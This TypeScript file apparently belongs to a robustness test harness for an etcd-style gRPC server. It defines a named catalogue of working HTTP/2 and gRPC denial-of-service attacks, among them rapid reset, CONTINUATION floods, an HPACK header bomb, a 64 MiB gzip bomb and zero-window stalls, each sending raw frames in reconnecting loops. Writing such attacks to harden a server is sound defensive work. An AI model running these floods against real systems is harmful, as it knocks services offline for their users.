import { gzipSync } from 'node:zlib';
import { frame, frameTypes, grpcHeaders, headerBlock } from '../hostile/raw-http2.ts';
import { nextTurn, pause, type Attack } from './attack.ts';
import { AttackConnection } from './attack-connection.ts';
import {
  call,
  callHead,
  data,
  endHeaders,
  endStream,
  initialWindow,
  message,
  paths,
  rangeOf,
  reset,
  watchOf,
  windowUpdate,
} from './frames.ts';

/** Time between a connection that was closed and the next: an attacker may come back as often as this. */
const reconnectMs = 50;

/** Sends what `burst` makes over one connection after the other, as fast as the member takes it. */
function flood(
  burst: (connection: AttackConnection) => Uint8Array,
  { settings = Buffer.alloc(0), pauseMs = 0, bursts = Infinity } = {},
): Attack {
  return async (target, { answers, isOver }) => {
    while (!isOver()) {
      const connection = await AttackConnection.open(target, { answers, settings });
      for (let i = 0; i < bursts && !isOver() && !connection.isClosed; i++) {
        await connection.send(burst(connection));
        await (pauseMs === 0 ? nextTurn() : pause(pauseMs));
      }
      // What was sent last may still have an answer.
      await pause(reconnectMs);
      connection.end();
    }
  };
}

/** The same frames many times. */
function repeated(bytes: Uint8Array, count: number): Attack {
  const burst = Buffer.concat(Array.from({ length: count }, () => bytes));
  return flood(() => burst);
}

function each(count: number, make: (index: number) => Uint8Array): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, i) => make(i)));
}

const ping = frame(frameTypes.ping, { payload: Buffer.alloc(8) });
const settings = frame(frameTypes.settings);
const head = grpcHeaders(paths.range);
const bomb = message(gzipSync(Buffer.alloc(64 * 1024 * 1024)), { compressed: true });
const broken = message(Buffer.alloc(2_000, 0x5a), { compressed: true });
const priorityType = 2;

/** Attacks on HTTP/2 and gRPC that need no login, by name. */
export const http2Attacks: Readonly<Record<string, Attack>> = {
  'rapid reset': flood((connection) =>
    each(500, () => {
      const stream = connection.newStream();
      return Buffer.concat([call(stream, paths.range, rangeOf('a')), reset(stream)]);
    }),
  ),
  'made you reset': flood((connection) =>
    each(500, () => {
      const stream = connection.newStream();
      return Buffer.concat([callHead(stream, paths.range), windowUpdate(stream, 0)]);
    }),
  ),
  'made you reset by a window that overflows': flood((connection) =>
    each(500, () => {
      const stream = connection.newStream();
      return Buffer.concat([callHead(stream, paths.range), windowUpdate(stream, 0x7fffffff)]);
    }),
  ),
  'ping flood': repeated(ping, 2_000),
  'settings flood': repeated(settings, 2_000),
  'empty data frames': flood((connection) => {
    const stream = connection.newStream();
    return Buffer.concat([
      callHead(stream, paths.put),
      each(2_000, () => frame(frameTypes.data, { stream })),
    ]);
  }),
  'empty header frames': flood((connection) => {
    const stream = connection.newStream();
    return Buffer.concat([
      callHead(stream, paths.put),
      each(500, () => frame(frameTypes.headers, { stream, flags: endHeaders })),
    ]);
  }),
  'priority churn': repeated(
    frame(priorityType, { stream: 1, payload: Buffer.from([0, 0, 0, 3, 9]) }),
    2_000,
  ),
  'window updates': repeated(windowUpdate(0, 1), 2_000),
  'frames of unknown types': repeated(frame(0xbe, { stream: 0, payload: Buffer.alloc(8) }), 2_000),
  'a window that overflows': flood(() => each(4, () => windowUpdate(0, 0x7fffffff)), { bursts: 1 }),
  'endless continuation': flood(
    (connection) => {
      const stream = connection.newStream();
      const part = headerBlock({ name: 'x'.repeat(1_000) });
      return Buffer.concat([
        frame(frameTypes.headers, { stream, payload: part }),
        each(2_000, () => frame(frameTypes.continuation, { stream, payload: part })),
      ]);
    },
    { bursts: 1 },
  ),
  'empty continuations': flood(
    (connection) => {
      const stream = connection.newStream();
      return Buffer.concat([
        frame(frameTypes.headers, { stream, payload: head }),
        each(5_000, () => frame(frameTypes.continuation, { stream })),
      ]);
    },
    { bursts: 1 },
  ),
  'header bomb': flood((connection) =>
    each(20, (i) => {
      // One field of 3,000 bytes goes into the table, and each byte after that stands for it.
      const field = Buffer.concat([
        Buffer.from([0x40]),
        headerBlock({ bomb: 'x'.repeat(3_000) }).subarray(1),
      ]);
      const payload = Buffer.concat([head, i === 0 ? field : Buffer.alloc(0), Buffer.alloc(15_000, 0xbe)]);
      const stream = connection.newStream();
      return frame(frameTypes.headers, {
        stream,
        flags: endHeaders | endStream,
        payload: payload.subarray(0, 16_384),
      });
    }),
  ),
  'many metadata keys': flood((connection) => {
    const stream = connection.newStream();
    const block = Buffer.concat([
      head,
      ...Array.from({ length: 2_000 }, (_, i) => headerBlock({ [`k${i}`]: '' })),
    ]);
    const parts = each(Math.ceil(block.length / 16_000), (i) =>
      frame(i === 0 ? frameTypes.headers : frameTypes.continuation, {
        stream,
        flags: (i + 1) * 16_000 >= block.length ? endHeaders : 0,
        payload: block.subarray(i * 16_000, (i + 1) * 16_000),
      }),
    );
    return parts;
  }),
  'oversize metadata': flood((connection) => {
    const stream = connection.newStream();
    const block = Buffer.concat([head, headerBlock({ token: 'x'.repeat(60_000) })]);
    return each(4, (i) =>
      frame(i === 0 ? frameTypes.headers : frameTypes.continuation, {
        stream,
        flags: i === 3 ? endHeaders : 0,
        payload: block.subarray(i * 16_000, (i + 1) * 16_000),
      }),
    );
  }),
  'windows of one byte': async (target, { answers, isOver }) => {
    const connection = await AttackConnection.open(target, { answers, settings: initialWindow(1) });
    const streams: number[] = [];
    while (!isOver() && !connection.isClosed) {
      if (streams.length < 100) {
        const stream = connection.newStream();
        streams.push(stream);
        await connection.send(call(stream, paths.range, rangeOf(target.largeKey)));
      }
      await connection.send(...streams.slice(-50).map((stream) => windowUpdate(stream, 1)));
      await pause(20);
    }
    connection.end();
  },
  'windows of nothing': async (target, { answers, isOver }) => {
    const connection = await AttackConnection.open(target, { answers, settings: initialWindow(0) });
    for (let i = 0; i < 100 && !isOver() && !connection.isClosed; i++) {
      await connection.send(call(connection.newStream(), paths.range, rangeOf(target.largeKey)));
      await pause(20);
    }
    while (!isOver()) await pause(20);
    connection.end();
  },
  'watches and snapshots that nobody reads': async (target, { answers, isOver }) => {
    const connection = await AttackConnection.open(target, { answers, settings: initialWindow(0) });
    for (let i = 0; i < 60 && !isOver() && !connection.isClosed; i++) {
      const stream = connection.newStream();
      const request =
        i % 20 === 0
          ? call(stream, paths.snapshot, new Uint8Array(0))
          : Buffer.concat([
              callHead(stream, paths.watch),
              data(stream, message(watchOf(target.largeKey)), { end: false }),
            ]);
      await connection.send(request);
      await pause(20);
    }
    while (!isOver()) await pause(20);
    connection.end();
  },
  'requests that never end': async (target, { answers, isOver }) => {
    const connection = await AttackConnection.open(target, { answers });
    // Each says that a megabyte follows, and sends what the window lets it.
    const begun = Buffer.alloc(50_000);
    begun.writeUInt32BE(1_000_000, 1);
    for (let i = 0; i < 2_000 && !isOver() && !connection.isClosed; i++) {
      const stream = connection.newStream();
      await connection.send(callHead(stream, paths.put), data(stream, begun, { end: false }));
      if (i % 20 === 0) await pause(5);
    }
    while (!isOver()) await pause(20);
    connection.end();
  },
  'calls without end': async (target, { answers, isOver }) => {
    while (!isOver()) {
      const connection = await AttackConnection.open(target, { answers });
      for (let i = 0; i < 60 && !isOver() && !connection.isClosed; i++) {
        await connection.send(each(100, () => callHead(connection.newStream(), paths.watch)));
        await pause(5);
      }
      await pause(reconnectMs);
      connection.end();
    }
  },
  'gzip bombs': flood(
    (connection) => {
      const stream = connection.newStream();
      return Buffer.concat([callHead(stream, paths.put, { 'grpc-encoding': 'gzip' }), data(stream, bomb)]);
    },
    { pauseMs: 20 },
  ),
  'broken compression': flood(
    (connection) =>
      each(5, () => {
        const stream = connection.newStream();
        return Buffer.concat([
          callHead(stream, paths.put, { 'grpc-encoding': 'gzip' }),
          data(stream, broken),
        ]);
      }),
    { pauseMs: 20 },
  ),
  'unknown encodings, paths and content types': flood(
    (connection) => {
      const strange: [string, Record<string, string>][] = [
        [paths.put, { 'grpc-encoding': 'zstd' }],
        [paths.put, { 'content-type': 'text/plain' }],
        [paths.put, { 'grpc-timeout': '1' }],
        ['etcdserverpb.KV/Put', {}],
        ['//etcdserverpb.KV/Put', {}],
        ['/etcdserverpb.KV%2fPut', {}],
        ['/etcdserverpb.kv/put', {}],
        [`/${'x'.repeat(10_000)}`, {}],
      ];
      return Buffer.concat(
        strange.map(([path, headers]) => {
          const stream = connection.newStream();
          return Buffer.concat([callHead(stream, path, headers), data(stream, message(Buffer.alloc(4)))]);
        }),
      );
    },
    { pauseMs: 10 },
  ),
};
